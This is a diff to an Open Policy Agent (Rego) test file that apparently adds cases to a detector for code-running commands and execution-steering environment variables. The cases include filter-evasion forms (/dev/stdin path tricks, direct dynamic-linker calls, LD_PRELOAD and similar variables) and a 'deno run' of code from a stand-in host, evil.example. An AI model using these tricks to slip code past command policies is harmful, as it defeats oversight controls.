@@ -59,6 +59,26 @@ test_runs_code[case.note] if {
 	some case in [
 		{"note": "sh", "cmd": cmd("sh", ["-c", "x"]), "want": true},
 		{"note": "sh with a file", "cmd": cmd("sh", ["-eu", "x.sh"]), "want": false},
+		{"note": "sh +c", "cmd": cmd("sh", ["+c", "x"]), "want": true},
+		{"note": "bash -u +ec", "cmd": cmd("bash", ["-u", "+ec", "x"]), "want": true},
+		{"note": "sh /dev/stdin", "cmd": cmd("sh", ["/dev/stdin"]), "want": true},
+		{"note": "sh //dev/./stdin", "cmd": cmd("sh", ["//dev/./stdin"]), "want": true},
+		{"note": "sh /dev/../dev/stdin", "cmd": cmd("sh", ["/dev/../dev/stdin"]), "want": true},
+		{"note": "sh dev/stdin", "cmd": cmd("sh", ["../../dev/stdin"]), "want": true},
+		{"note": "python /proc/self/fd/0", "cmd": cmd("python3", ["/proc/self/fd/0"]), "want": true},
+		{"note": "python /dev/fd/0", "cmd": cmd("python3", ["-u", "/dev/fd/0"]), "want": true},
+		{"note": "a script in dev", "cmd": cmd("node", ["/home/dev/server.js"]), "want": false},
+		{"note": "a script in fd", "cmd": cmd("node", ["fd/server.js"]), "want": false},
+		{"note": "deno run data:", "cmd": cmd("deno", ["run", "data:text/javascript,x"]), "want": true},
+		{"note": "deno run https:", "cmd": cmd("deno", ["run", "https://evil.example/x.ts"]), "want": true},
+		{"note": "deno run a file", "cmd": cmd("deno", ["run", "./x.ts"]), "want": false},
+		{"note": "node inspect", "cmd": cmd("node", ["inspect"]), "want": true},
+		{"note": "npx -yc", "cmd": cmd("npx", ["-yc", "x"]), "want": true},
+		{"note": "npx --cal=", "cmd": cmd("npx", ["--cal=x"]), "want": true},
+		{"note": "pwsh -e", "cmd": cmd("pwsh", ["-e", "ZQBjAGgAbwA="]), "want": true},
+		{"note": "uv run", "cmd": cmd("uv", ["run", "x"]), "want": true},
+		{"note": "the dynamic linker", "cmd": {"declared": "x", "path": "/lib64/ld-linux-x86-64.so.2", "args": ["/bin/sh", "-c", "x"]}, "want": true},
+		{"note": "taskset", "cmd": cmd("taskset", ["1", "sh", "-c", "x"]), "want": true},
 		{"note": "sh -ec", "cmd": cmd("sh", ["-ec", "x"]), "want": true},
 		{"note": "python -u with a file", "cmd": cmd("python3", ["-u", "server.py"]), "want": false},
 		{"note": "perl -e", "cmd": cmd("perl", ["-w", "-e", "x"]), "want": true},
@@ -87,11 +107,14 @@ default runs_code(_) := false
 runs_code(c) if command.runs_code(c)
 
 test_steering[name] if {
-	some name in ["LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS", "PYTHONPATH", "BASH_ENV", "PATH", "GIT_SSH_COMMAND"]
+	some name in [
+		"LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS", "PYTHONPATH", "BASH_ENV", "PATH", "GIT_SSH_COMMAND",
+		"npm_config_script_shell", "Npm_Config_Script_Shell", "PYTHONBREAKPOINT", "_JAVA_OPTIONS", "LUA_INIT_5_4", "ZDOTDIR", "OPENSSL_CONF",
+	]
 	command.steering(name)
 }
 
 test_not_steering[name] if {
-	some name in ["HOME", "API_KEY", "LANG", "MY_LD_PATH"]
+	some name in ["HOME", "API_KEY", "LANG", "MY_LD_PATH", "NODE_ENV", "PYTHONUNBUFFERED", "TZ", "RUN_ID", "MY_npm_token"]
 	not command.steering(name)
 }
